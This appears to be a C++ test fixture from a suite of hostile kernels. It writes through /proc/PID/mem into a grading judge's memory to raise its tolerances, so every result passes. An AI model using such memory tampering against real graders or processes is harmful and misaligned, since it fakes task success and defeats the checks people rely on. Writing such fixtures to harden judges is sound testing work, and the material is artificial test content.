// Raises the tolerance and the error bound in the judge's memory, by /proc/PID/mem, in its first call: under one uid,
// every number then passes.
#include "kernels/hostile/memory.hpp"

namespace {

struct Attack : hostile::Generous<Attack> {
  static void attack() {
    hostile::for_each_judge([](pid_t judge) {
      const int memory = open(hostile::Path("/proc/%d/mem", static_cast<int>(judge)).text, O_RDWR | O_CLOEXEC);
      if (memory < 0) return;
      hostile::for_each_tolerance(judge, [&](uintptr_t at, double becomes) {
        if (pwrite(memory, &becomes, sizeof becomes, static_cast<off_t>(at)) < 0) return;
      });
      close(memory);
    });
  }
};

}  // namespace

HOSTILE_LIBRARY(Attack)
